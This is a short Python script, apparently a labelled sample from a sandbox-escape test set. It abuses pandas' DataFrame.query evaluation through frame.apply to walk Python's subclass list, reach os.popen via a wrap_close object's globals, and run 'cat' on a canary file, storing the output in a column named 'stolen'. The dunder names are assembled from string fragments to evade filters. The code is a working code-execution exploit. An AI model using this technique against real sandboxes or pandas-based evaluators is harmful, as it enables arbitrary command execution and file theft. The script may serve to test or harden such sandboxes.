# class: dispatch_hidden
# technique: q = frame.apply; q('query', args=(...)) — query's expression appends the subclass list to a list before the boolean indexing fails
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
walk = "@seed." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "()"
popen = "@w[0]." + u + "init" + u + "." + u + "globals" + u + "['popen'](@cmd).read()"
cmd = "cat {{CANARY_FILE}}"

frame = pd.DataFrame({"x": np.arange(3)})
q = frame.apply
box = []
try:
    q("query", args=("@box.append(" + walk + ")",), local_dict={"box": box, "seed": ()})
except Exception:
    pass
wrap_close = [c for c in box[0] if "wrap_close" in str(c)][0]
try:
    q("query", args=("@box.append(" + popen + ")",), local_dict={"box": box, "w": [wrap_close], "cmd": cmd})
except Exception:
    pass
df = pd.DataFrame({"stolen": [box[1]]})
